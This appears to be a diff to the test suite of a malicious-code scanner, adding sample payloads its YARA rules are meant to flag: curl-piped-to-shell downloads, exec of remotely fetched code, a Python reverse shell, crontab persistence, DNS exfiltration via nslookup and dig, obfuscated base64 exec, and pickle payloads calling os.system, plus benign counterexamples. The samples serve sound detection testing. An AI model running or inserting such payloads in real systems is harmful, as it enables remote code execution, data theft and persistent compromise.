@@ -431,6 +431,45 @@ MALICIOUS = [
     ("m.py", "getattr(__import__('os'), 'metsys'[::-1])('true')\n", "LG-YARA-OBF-002", HIGH),
     ("m.py", "__import__('builtins').exec('x=1')\n", "LG-YARA-OBF-002", HIGH),
     ("m.py", "vars(__builtins__)['ex' + 'ec']('x=1')\n", "LG-YARA-OBF-002", HIGH),
+    # second round, against the widened rules
+    (
+        "setup.sh",
+        "curl -fsSL \\\n  https://x.invalid/i.sh \\\n  | sh\n",
+        "LG-YARA-DLEXEC-001",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import requests\nexec(requests.get('http://x.invalid/p').json()['code'])\n",
+        "LG-YARA-DLEXEC-002",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import requests\nr = requests.get('http://x.invalid/p')\nexec(r.content.decode())\n",
+        "LG-YARA-DLEXEC-002",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nsubprocess.Popen(['/bin/sh'], stdin=s.makefile('rb'))\n",
+        "LG-YARA-REVSHELL-001",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command='/tmp/x')\ncron.write()\n",
+        "LG-YARA-PERSIST-003",
+        HIGH,
+    ),
+    ("run.sh", "nslookup $(whoami).x.invalid\n", "LG-YARA-EXFIL-003", HIGH),
+    ("run.sh", "dig `cat /tmp/f | base64`.x.invalid\n", "LG-YARA-EXFIL-003", HIGH),
+    (
+        "m.py",
+        "from base64 import b64decode as d\nexec(d('" + "QUFB" * 40 + "'))\n",
+        "LG-YARA-OBF-001",
+        CRITICAL,
+    ),
     # the same payloads inside JSON-escaped notebook code are found, capped as prose
     ("demo.ipynb", _notebook("!curl -s http://x.invalid/i | sh\n"), "LG-YARA-DLEXEC-001", LOW),
 ]
@@ -476,6 +515,9 @@ def _stack_global(module: str, name: str, between: bytes = b"\x94") -> bytes:
         (_stack_global("numpy.testing._private.utils", "runstring"), "LG-YARA-PICKLE-002"),
         (b"cpdb\nrun\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
         (b"crunpy\n_run_module_as_main\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
+        (b"(S'true'\nios\nsystem\n.", "LG-YARA-PICKLE-001"),  # INST calls what it names
+        (b"\x80\x04U\x02osU\x06system\x93.", "LG-YARA-PICKLE-002"),  # SHORT_BINSTRING
+        (b"\x80\x04\x8d\x02" + b"\x00" * 7 + b"os\x8c\x06system\x93.", "LG-YARA-PICKLE-002"),
     ],
 )
 def test_pickle_variants(make_repo: MakeRepo, data: bytes, rule_id: str) -> None:
@@ -541,6 +583,10 @@ BENIGN = [
     ("tests/test_codec.py", "def test_decode():\n    assert base64.b64decode('aGk=') == b'hi'\n"),
     ("LICENSE", 'THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.\n'),
     ("m.py", "import trex  # T-Rex: open-set detection\nstrata = df.groupby('stratum')\n"),
+    ("healthcheck.sh", "ping -c 1 $(hostname)\nnslookup huggingface.co\n"),
+    ("vocab.txt", "paint\nmain\nprint\nopen\nscenarios\nrun\nmacos\nsystem\n"),
+    ("m.py", "from crontab import CronTab  # documented, not used\n"),
+    ("m.py", "value = eval(compute(x))\nexec(compile(src, path, 'exec'))\n"),
 ]
 
 
@@ -564,3 +610,12 @@ def test_requirements_file_is_not_prose(make_repo: MakeRepo) -> None:
     assert by_file["requirements.txt"] is Severity.MEDIUM
     assert by_file["docs/install.txt"] is Severity.LOW
     assert by_file["README.md"] is Severity.LOW
+
+
+def test_rules_compile_without_slow_rule_warnings() -> None:
+    """libyara warns about atoms too short to index or unbounded gaps; none may slip in."""
+    import yara
+
+    from loadguard.analyzers.yara import _rule_files
+
+    yara.compile(filepaths=_rule_files(), error_on_warning=True)
